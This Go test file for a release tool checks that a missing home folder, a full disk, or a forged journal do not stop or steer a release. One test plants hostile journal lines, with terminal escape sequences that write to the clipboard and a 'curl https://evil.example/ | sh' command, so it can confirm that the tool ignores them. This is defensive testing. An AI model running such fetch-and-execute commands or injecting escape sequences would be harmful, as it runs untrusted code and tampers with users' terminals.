package main

import (
	"fmt"
	"hash/crc32"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"ferry/flow/journal"
	"ferry/flow/sandbox"
)

// without takes variables out of an environment.
func without(env []string, names ...string) (out []string) {
	for _, v := range env {
		name, _, _ := strings.Cut(v, "=")
		keep := true
		for _, n := range names {
			keep = keep && n != name
		}
		if keep {
			out = append(out, v)
		}
	}
	return out
}

// TestNoHome: a home that is missing, cannot be written, or is no folder keeps
// no journal, and hinders no release.
func TestNoHome(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("needs a folder that not even root can write to")
	}
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	homes := map[string]string{"unset": "", "read-only": "/proc", "below a file": filepath.Join(file, "home")}
	if os.Getuid() != 0 { // root could write there
		homes["the root"] = "/"
	}
	for name, home := range homes {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := start(t, "happy", quick, nil)
			cmd := w.command(t.Context(), "you", yes...)
			cmd.Env = without(cmd.Env, "HOME", "USERPROFILE", "XDG_STATE_HOME", "XDG_CACHE_HOME", "XDG_RUNTIME_DIR")
			if home != "" {
				cmd.Env = append(cmd.Env, "HOME="+home)
			}
			if r := finish(t, cmd); r.code != 0 || !strings.Contains(r.err, "no journal is kept") {
				t.Errorf("exit code %d\n%s", r.code, r.err)
			}
			w.published()
		})
	}
}

// TestNoRoomForAJournal: the disk is full in the middle of a record. The release
// goes on, and what was written stays readable.
func TestNoRoomForAJournal(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("no sh")
	}
	w := start(t, "happy", quick, nil)
	cmd := w.command(t.Context(), "you", yes...)
	cmd.Args = append([]string{"sh", "-c", `ulimit -f 2; exec "$0" "$@"`, cmd.Path}, cmd.Args[1:]...)
	cmd.Path, _ = exec.LookPath("sh")
	if r := finish(t, cmd); r.code != 0 {
		t.Errorf("exit code %d\n%s", r.code, r.err)
	}
	w.published()
	info, err := os.Stat(w.journal("you"))
	if err != nil || info.Size() == 0 || info.Size() > 2048 {
		t.Fatalf("the disk was not full: %v %v", info, err)
	}
	if rs, err := journal.Read(w.journal("you")); err != nil || len(rs) < 2 {
		t.Errorf("%d records: %v", len(rs), err)
	}
	if r := w.run("you", "log"); r.code != 0 || !strings.Contains(r.out+r.err, sandbox.Version) {
		t.Errorf("exit code %d\n%s%s", r.code, r.out, r.err)
	}
}

// signed is a line of a journal with its checksum, whoever wrote it.
func signed(body string) string {
	return fmt.Sprintf(`%s,"crc":"%08x"}`+"\n", strings.TrimSuffix(body, "}"), crc32.ChecksumIEEE([]byte(body)))
}

// TestJournalDecidesNothing: a journal that lies, that is hostile, torn, or of
// another version of the program changes nothing that is seen or done, and not
// a byte of it is changed.
func TestJournalDecidesNothing(t *testing.T) {
	t.Parallel()
	w := start(t, "happy", quick, nil)
	lies := ""
	for _, step := range []string{"claim", "push-branch", "await-ci", "confirm-index", "delete-branch"} {
		lies += signed(`{"v":1,"t":"2026-11-20T10:00:00Z","kind":"observed","run":"x","step":"` + step + `","status":"done","text":"\u001b[2J\u001b]52;c;ZXZpbA==\u0007 see https://evil.example/","next":["curl https://evil.example/ | sh"]}`)
	}
	lies += signed(`{"v":2,"t":"2027-01-01T00:00:00Z","kind":"done","state":{"of":"the future"}}`) + signed(`{"v":0,"kind":"done"}`) + "\x00\xff nonsense\n" + `{"v":1,"t":"2026-`
	path := w.journal("you")
	if _, err := w.Home("you-home"); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(lies), 0o600); err != nil {
		t.Fatal(err)
	}
	if r := w.run("you", "status"); r.code != 0 || strings.Contains(r.out+r.err, "evil") || !strings.Contains(r.out, "state    not started") {
		t.Errorf("status: exit code %d\n%s%s", r.code, r.out, r.err)
	}
	if r := w.run("you", yes...); r.code != 0 || strings.Contains(r.err, "evil") {
		t.Errorf("exit code %d\n%s", r.code, r.err)
	}
	w.published()
	if r := w.run("you", "log"); strings.ContainsAny(r.out+r.err, "\x1b\x07\x00") {
		t.Errorf("the log draws: %q", r.out+r.err)
	}
	if text, err := os.ReadFile(path); err != nil || !strings.HasPrefix(string(text), lies) {
		t.Errorf("what was there was changed: %v", err)
	}
}
